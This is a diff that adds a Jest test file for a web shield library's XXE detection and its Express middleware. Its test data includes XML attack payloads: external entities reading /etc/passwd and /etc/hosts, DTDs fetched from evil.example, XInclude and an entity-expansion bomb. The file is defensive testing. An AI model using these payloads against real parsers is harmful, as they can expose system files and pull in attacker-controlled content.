@@ -0,0 +1,93 @@
+import express from 'express';
+import request from 'supertest';
+import ZShield, { detectMaliciousRequest } from '../../src/shield/lib';
+import { silenceConsole } from '../helpers';
+import { allOff, createRequest, createShield } from './helpers';
+
+describe('shield detectors', () => {
+    silenceConsole('log');
+
+    describe('xxe', () => {
+        const xml = (doctype: string) => `<?xml version="1.0"?>${doctype}<order><id>&xxe;</id></order>`;
+        const requests: Array<[string, Record<string, any>]> = [
+            ['an external entity', { body: xml('<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>') }],
+            ['a parameter entity', { body: xml('<!DOCTYPE order [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>') }],
+            ['an external DTD', { body: xml('<!DOCTYPE order SYSTEM "http://evil.example/order.dtd">') }],
+            [
+                'an entity expansion bomb',
+                { body: xml('<!DOCTYPE order [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;">]>') },
+            ],
+            [
+                'XInclude',
+                { body: '<order xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></order>' },
+            ],
+            [
+                'a raw XML body',
+                {
+                    headers: { host: 'app.example.com', 'content-type': 'application/soap+xml' },
+                    body: Buffer.from(xml('<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/hosts">]>')),
+                },
+            ],
+        ];
+
+        it.each(requests)('detects %s when enabled', (_name, overrides) => {
+            const { isSuspicious, attackTypes } = detectMaliciousRequest(createRequest(overrides), {
+                ...allOff,
+                xxe: true,
+            });
+
+            expect(isSuspicious).toBe(true);
+            expect(attackTypes).toEqual(['XXE']);
+        });
+
+        describe('in the middleware', () => {
+            // Reads bodies the way apps that take XML do, as text or as a raw buffer
+            const createXmlApp = (shield: ZShield) => {
+                const app = express();
+                app.use(express.text({ type: 'text/xml' }));
+                app.use(express.raw({ type: ['application/*+xml', 'application/xml', 'application/octet-stream'] }));
+                app.use(shield.middleware);
+                app.post('/', (_req, res) => {
+                    res.sendStatus(200);
+                });
+                return app;
+            };
+
+            const attack = xml('<!DOCTYPE order SYSTEM "http://evil.example/order.dtd">');
+            const send = (shield: ZShield, type: string, body: string) =>
+                request(createXmlApp(shield)).post('/').set('content-type', type).send(body);
+
+            const types = ['text/xml', 'application/xml', 'application/soap+xml'];
+
+            it.each(types)('blocks external entities sent as %s', async (type) => {
+                const response = await send(createShield(), type, attack);
+
+                // Any markup also scores low as XSS, which is not what blocks it
+                expect(response.status).toBe(403);
+                expect(response.body.detectedAttacks).toContain('XXE');
+            });
+
+            it('lets ordinary XML, binary bodies and XML with xxe turned off through', async () => {
+                const order = '<?xml version="1.0"?><order><id>42</id><note>Fish &amp; chips</note></order>';
+
+                expect((await send(createShield(), 'application/xml', order)).status).toBe(200);
+                expect((await send(createShield(), 'application/octet-stream', attack)).status).toBe(200);
+                expect((await send(createShield({ xxe: false }), 'application/xml', attack)).status).toBe(200);
+            });
+        });
+
+        it('lets ordinary XML and binary bodies through', () => {
+            const requests = [
+                createRequest({ body: '<?xml version="1.0"?><order><id>42</id><note>Fish &amp; chips</note></order>' }),
+                createRequest({
+                    headers: { host: 'app.example.com', 'content-type': 'application/octet-stream' },
+                    body: Buffer.from('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
+                }),
+            ];
+
+            for (const req of requests) {
+                expect(detectMaliciousRequest(req, { ...allOff, xxe: true }).isSuspicious).toBe(false);
+            }
+        });
+    });
+});